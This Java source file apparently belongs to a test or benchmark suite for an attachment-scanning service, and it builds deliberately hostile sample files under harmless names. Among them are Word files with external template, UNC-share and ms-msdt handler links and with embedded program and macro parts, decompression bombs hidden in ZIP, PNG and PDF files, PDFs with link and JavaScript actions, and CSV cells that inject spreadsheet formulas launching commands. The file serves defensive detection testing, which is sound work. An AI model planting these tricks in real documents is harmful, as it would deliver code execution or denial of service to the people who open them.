package io.attachrelay.deploy.benchmarks.verdicts;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import io.attachrelay.deploy.benchmarks.verdicts.Tricks.Made;
import io.attachrelay.deploy.testkit.sample.SampleFiles;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Documents, tables and pictures that are meant to deceive, each under a harmless name. */
final class DocumentTricks {

    private static final String SCRIPT = "<< /S /JavaScript /JS (x) >>";
    private static final byte[] PROGRAM = SampleFiles.windowsProgram().bytes();
    // What unpacks to 20 MB of zeros behind 9 kB that nothing makes smaller.
    private static final byte[] BOMB = Arrays.copyOf(noise(), 20 << 20);

    private DocumentTricks() {}

    static List<Made> hostile() {
        return List.of(
                active("template.docx", linked("attachedTemplate", "http://a.example/t")),
                active("share.docx", linked("hyperlink", "\\\\host\\x")),
                active("handler.docx", linked("hyperlink", "ms-msdt:/id x")),
                active("other-format.docx", carrying("aFChunk", "a.txt", text("hello"))),
                active("control.docx", carrying("control", "a.xml", text("<x/>"))),
                active("program.docx", carrying("oleObject", "a.bin", PROGRAM)),
                active("macros.docx", carrying("package", "a.bin", macros())),
                new Made("liar.docx", "bomb", liar(carrying("image", "a.bmp", BOMB))),
                new Made("text.png", "bomb", packedText()),
                new Made("page.pdf", "bomb", pdf("/Contents 4 0 R", twicePacked())),
                active("share.pdf", pdf("(\\\\\\\\host\\\\x)")),
                active("handler.pdf", pdf("(ms-msdt:/id x)")),
                active(
                        "field.pdf",
                        pdf("/Annots [<< /Parent 4 0 R >>]", text("<< /A " + SCRIPT + " >>"))),
                active("any-program.csv", text("a,b\n1,\"=forfiles|'/c calc'!A0\"\n2,3\n")),
                active("function.csv", text("a,b\n1,=DDE(\"x\")\n2,3\n")));
    }

    private static Made active(String name, byte[] bytes) {
        return new Made(name, "active", bytes);
    }

    private static byte[] text(String text) {
        return text.getBytes(ISO_8859_1);
    }

    private static byte[] noise() {
        byte[] noise = new byte[9_000];
        new Random(1).nextBytes(noise);
        return noise;
    }

    private static byte[] linked(String kind, String target) {
        return letter(relation(kind, target, "External"), "a.txt", text("x"));
    }

    private static byte[] carrying(String kind, String name, byte[] bytes) {
        return letter(relation(kind, name, "Internal"), name, bytes);
    }

    private static byte[] macros() {
        return letter("", "vbaProject.bin", text("x"));
    }

    private static String relation(String kind, String target, String mode) {
        return "<Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/%s' Target='%s' TargetMode='%s'/>".formatted(kind, target, mode);
    }

    private static byte[] letter(String relation, String name, byte[] bytes) {
        String formats = "application/vnd.openxmlformats-";
        String types =
                "<Types><Default Extension='rels' ContentType='%spackage.relationships+xml'/>"
                        + "<Default Extension='bmp' ContentType='image/bmp'/>"
                        + "<Override PartName='/d.xml' ContentType="
                        + "'%sofficedocument.wordprocessingml.document.main+xml'/></Types>";
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            add(zip, "[Content_Types].xml", text(types.formatted(formats, formats)));
            add(zip, "_rels/.rels", text("<Relationships/>"));
            add(zip, "d.xml", text("<d/>"));
            add(zip, "_rels/d.xml.rels", text("<Relationships>" + relation + "</Relationships>"));
            add(zip, name, bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static void add(ZipOutputStream zip, String name, byte[] bytes) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(bytes);
        zip.closeEntry();
    }

    /** The directory says that the last part unpacks to 100 kB. */
    private static byte[] liar(byte[] zip) {
        int last = new String(zip, ISO_8859_1).lastIndexOf("PK\1\2");
        ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).putInt(last + 24, 100_000);
        return zip;
    }

    /** A photo's worth of a picture with 20 MB of text. */
    private static byte[] packedText() {
        byte[] picture = SampleFiles.png().bytes();
        byte[] packed = deflated(BOMB);
        var chunk = ByteBuffer.allocate(12 + 3 + packed.length).putInt(3 + packed.length);
        chunk.put(text("zTXta\0\0")).put(packed);
        var crc = new CRC32();
        crc.update(chunk.array(), 4, chunk.position() - 4);
        chunk.putInt((int) crc.getValue());
        // Behind the signature and the header.
        int header = 33;
        return ByteBuffer.allocate(picture.length + chunk.capacity())
                .put(picture, 0, header)
                .put(chunk.array())
                .put(picture, header, picture.length - header)
                .array();
    }

    private static byte[] twicePacked() {
        byte[] packed = deflated(deflated(BOMB));
        String head = "<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n";
        return text(head.formatted(packed.length) + new String(packed, ISO_8859_1) + "\nendstream");
    }

    private static byte[] pdf(String address) {
        return pdf(
                "/Annots [<< /Subtype /Link /A 4 0 R >>]",
                text("<< /S /URI /URI " + address + " >>"));
    }

    /** A page, and an object that it refers to. */
    private static byte[] pdf(String page, byte[] object) {
        List<String> objects =
                List.of(
                        "<< /Type /Catalog /Pages 2 0 R >>",
                        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] " + page + " >>",
                        new String(object, ISO_8859_1));
        var file = new StringBuilder("%PDF-1.7\n");
        var table = new StringBuilder("xref\n0 5\n0000000000 65535 f \n");
        for (int i = 0; i < objects.size(); i++) {
            table.append("%010d 00000 n \n".formatted(file.length()));
            file.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
        }
        int start = file.length();
        file.append(table).append("trailer\n<< /Size 5 /Root 1 0 R >>\n");
        return text(file + "startxref\n%d\n%%%%EOF\n".formatted(start));
    }

    private static byte[] deflated(byte[] bytes) {
        try (Deflater deflater = new Deflater()) {
            deflater.setInput(bytes);
            deflater.finish();
            byte[] out = new byte[bytes.length + (64 << 10)];
            return Arrays.copyOf(out, deflater.deflate(out));
        }
    }
}
